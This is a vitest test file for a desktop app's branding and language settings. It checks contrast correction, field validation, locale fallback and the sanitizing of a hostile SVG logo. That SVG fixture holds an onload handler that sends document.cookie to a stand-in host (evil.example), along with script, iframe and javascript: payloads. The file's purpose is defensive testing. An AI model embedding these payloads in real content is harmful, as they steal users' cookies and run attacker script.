/**
 * Branding and language through the main service, as the window gets them: a managed file's
 * `branding` block (real logo files on disk) answered on the `branding` channel, corrected
 * where its colour lacks contrast, neutralised where its SVG is hostile, and reported field by
 * field where it is wrong, while everything else keeps working. The language: the OS locale,
 * else the settings', IT's locked.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { SignetService } from '../../src/main/service';
import type { BrandingView } from '../../src/shared/branding';
import { contrastRatio } from '../../src/shared/branding';
import type { SettingsView } from '../../src/shared/ipc';
import { PLAIN_SVG, pngBytes } from '../fixtures/images';
import { serviceOn, writeJson } from '../fixtures/settings-files';

const dir = mkdtempSync(join(tmpdir(), 'signet-branding-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

let n = 0;
/** A service whose managed configuration holds `managed`; closed after `use`. */
async function withManaged(
  managed: Record<string, unknown>,
  use: (s: SignetService) => Promise<void>,
  options: { systemLocale?: string; settings?: Record<string, unknown> } = {},
) {
  n += 1;
  const s = serviceOn(
    writeJson(dir, `user-${n}.json`, options.settings ?? {}),
    writeJson(dir, `managed-${n}.json`, managed),
    options.systemLocale ? { systemLocale: options.systemLocale } : {},
  );
  try {
    await use(s);
  } finally {
    await s.close();
  }
}
const file = (name: string, content: string | Buffer) => {
  const path = join(dir, name);
  writeFileSync(path, content);
  return path;
};
async function brandingOf(s: SignetService): Promise<BrandingView> {
  const r = await s.dispatch('branding', {});
  if (!r.ok) throw new Error(`branding failed: ${r.error.message}`);
  return r.value;
}
async function settingsOf(s: SignetService): Promise<SettingsView> {
  const r = await s.dispatch('getSettings', {});
  if (!r.ok) throw new Error(`getSettings failed: ${r.error.message}`);
  return r.value;
}
const decode = (dataUrl: string) => Buffer.from(dataUrl.split(',')[1]!, 'base64').toString();

describe('branding from the managed configuration', () => {
  it('answers the name, the PNG logo and the colour per theme, locked, with no problem', async () => {
    const png = pngBytes(48, 48);
    const branding = { name: 'Acme Corp', logo: file('acme.png', png), primaryColor: '#1d5bb8' };
    await withManaged({ branding }, async (s) => {
      const b = await brandingOf(s);
      expect(b).toMatchObject({ name: 'Acme Corp', problems: [] });
      expect(b.logo).toBe(`data:image/png;base64,${png.toString('base64')}`);
      expect(b.colors?.light).toEqual({ primary: '#1d5bb8', onPrimary: '#ffffff' });
      // Signet's blue is too dark for a focus ring on the dark page: lightened there.
      expect(b.colors?.dark.primary).not.toBe('#1d5bb8');
      const view = await settingsOf(s);
      expect(view.error).toBeUndefined();
      expect(view.locked.map((l) => l.field)).toContain('branding');
      // Diagnostics says a PNG logo is shown, without its 4/3-size base64.
      const report = await s.dispatch('exportDiagnostics', { format: 'json' });
      const exported = JSON.parse(report.ok ? report.value.content : '{}');
      expect(exported.branding).toMatchObject({ name: 'Acme Corp', logo: 'image/png' });
      expect(report.ok && report.value.content).not.toContain(png.toString('base64'));
    });
  });

  it('corrects a low-contrast colour and Diagnostics says what was changed', async () => {
    await withManaged({ branding: { name: 'Gold', primaryColor: '#FFD700' } }, async (s) => {
      const b = await brandingOf(s);
      const light = b.colors!.light;
      expect(light.primary).not.toBe('#ffd700');
      expect(contrastRatio(light.primary, light.onPrimary)).toBeGreaterThanOrEqual(4.5);
      expect(contrastRatio(light.primary, '#f4f5f7')).toBeGreaterThanOrEqual(3);
      expect(b.adjustments.map((a) => a.message)).toEqual([
        expect.stringMatching(
          new RegExp(`#ffd700 was darkened to ${light.primary} in the light theme`),
        ),
      ]);
      for (const format of ['markdown', 'json'] as const) {
        const report = await s.dispatch('exportDiagnostics', { format });
        expect(report.ok && report.value.content).toContain(
          `#ffd700 was darkened to ${light.primary}`,
        );
      }
    });
  });

  it('neutralises a hostile SVG logo: no script, no handler, no reference outside it', async () => {
    const hostile = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" onload="fetch('https://evil.example/?'+document.cookie)">
  <script>alert(document.domain)</script>
  <foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>
  <use href="https://evil.example/sprite.svg#a"/>
  <image xlink:href="https://evil.example/beacon.png" width="1" height="1"/>
  <a href="javascript:alert(1)"><rect width="10" height="10" fill="#0a7" style="fill: url(https://evil.example/p)"/></a>
  <circle cx="5" cy="5" r="3" fill="#fff" onmouseover="alert(2)"/>
</svg>`;
    await withManaged({ branding: { logo: file('hostile.png', hostile) } }, async (s) => {
      const b = await brandingOf(s);
      expect(b.problems).toEqual([]);
      expect(b.logo).toMatch(/^data:image\/svg\+xml;base64,/);
      const svg = decode(b.logo!).replace(/ xmlns(?::xlink)?="http:\/\/www\.w3\.org\/[^"]*"/g, '');
      expect(svg).not.toMatch(
        /<script|<foreignObject|<iframe|<image|\son\w+=|javascript:|evil|https?:/i,
      );
      // The drawing itself is kept.
      expect(svg).toContain('<circle cx="5" cy="5" r="3" fill="#fff"></circle>');
    });
  });

  it('reports each invalid field while the rest of the branding and the app still work', async () => {
    const branding = {
      name: 'Acme\u202e',
      logo: file(
        'big.svg',
        `<svg xmlns="http://www.w3.org/2000/svg">${' '.repeat(300 * 1024)}</svg>`,
      ),
      primaryColor: '#0a7f3f',
      colour: 'green',
    };
    await withManaged({ tenant: 'acme.eu.auth0.com', branding }, async (s) => {
      const b = await brandingOf(s);
      expect(b.name).toBeNull();
      expect(b.logo).toBeNull();
      expect(b.colors?.light.primary).toBe('#0a7f3f');
      expect(b.problems).toMatchObject([
        { field: 'branding.colour', message: expect.stringMatching(/not a branding field/) },
        { field: 'branding.name', message: expect.stringMatching(/control or text-direction/) },
        {
          field: 'branding.logo',
          message: expect.stringMatching(/is 30\d KB; a logo may be at most 256 KB/),
        },
      ]);
      // The settings are not in error: the tenant applies and other calls answer.
      const view = await settingsOf(s);
      expect(view.error).toBeUndefined();
      expect(view.tenant).toBe('acme.eu.auth0.com');
      expect(await s.dispatch('lastLogin', {})).toEqual({ ok: true, value: null });
      // Diagnostics names each wrong field.
      const report = await s.dispatch('exportDiagnostics', { format: 'markdown' });
      const text = report.ok ? report.value.content : '';
      for (const field of ['branding.colour', 'branding.name', 'branding.logo'])
        expect(text).toContain(`Problem: ${field}`);
    });
  });

  it('a missing logo, a non-image and a block that is no object each name their problem', async () => {
    await withManaged({ branding: { logo: join(dir, 'missing.svg'), name: 'Acme' } }, async (s) => {
      const b = await brandingOf(s);
      expect(b.name).toBe('Acme');
      expect(b.problems).toMatchObject([
        { field: 'branding.logo', message: expect.stringMatching(/missing\.svg does not exist/) },
      ]);
    });
    await withManaged(
      { branding: { logo: file('readme.svg', 'Just a text file.\n') } },
      async (s) => {
        expect((await brandingOf(s)).problems[0]?.message).toMatch(/not a PNG or SVG image/);
      },
    );
    await withManaged({ branding: 'Acme' }, async (s) => {
      expect(await brandingOf(s)).toMatchObject({ name: null, logo: null, colors: null });
      expect((await brandingOf(s)).problems).toMatchObject([
        { field: 'branding', message: expect.stringMatching(/must be an object/) },
      ]);
    });
  });

  it('an SVG logo named .png is shown as SVG; the window cannot change the branding', async () => {
    await withManaged({ branding: { logo: file('logo-really-svg.png', PLAIN_SVG) } }, async (s) => {
      expect((await brandingOf(s)).logo).toMatch(/^data:image\/svg\+xml;base64,/);
      expect(
        await s.dispatch('saveSettings', { branding: { logo: '/etc/hostname' } }),
      ).toMatchObject({
        ok: false,
        error: { code: 'invalid_input' },
      });
    });
  });
});

describe('the window’s language', () => {
  it('follows the OS locale by BCP 47 rules, else English', async () => {
    await withManaged(
      {},
      async (s) => {
        expect(await settingsOf(s)).toMatchObject({ systemLanguage: 'de-AT', language: 'de' });
      },
      { systemLocale: 'de-AT' },
    );
    await withManaged(
      {},
      async (s) => {
        expect(await settingsOf(s)).toMatchObject({ systemLanguage: 'zh-TW', language: 'en' });
      },
      { systemLocale: 'zh-TW' },
    );
  });

  it('the user’s choice beats the OS, and is saved; IT’s managed language beats both, locked', async () => {
    await withManaged(
      {},
      async (s) => {
        expect((await settingsOf(s)).language).toBe('fr');
        const saved = await s.dispatch('saveSettings', { language: 'ar' });
        expect(saved).toMatchObject({
          ok: true,
          value: { language: 'ar', systemLanguage: 'de-AT' },
        });
      },
      { systemLocale: 'de-AT', settings: { language: 'fr' } },
    );
    await withManaged(
      { language: 'ja' },
      async (s) => {
        const view = await settingsOf(s);
        expect(view.language).toBe('ja');
        expect(view.locked.map((l) => l.field)).toEqual(['language']);
        expect(await s.dispatch('saveSettings', { language: 'de' })).toMatchObject({
          ok: false,
          error: { code: 'config_invalid', detail: { locked: ['language'] } },
        });
      },
      { systemLocale: 'de-AT', settings: { language: 'fr' } },
    );
  });
});
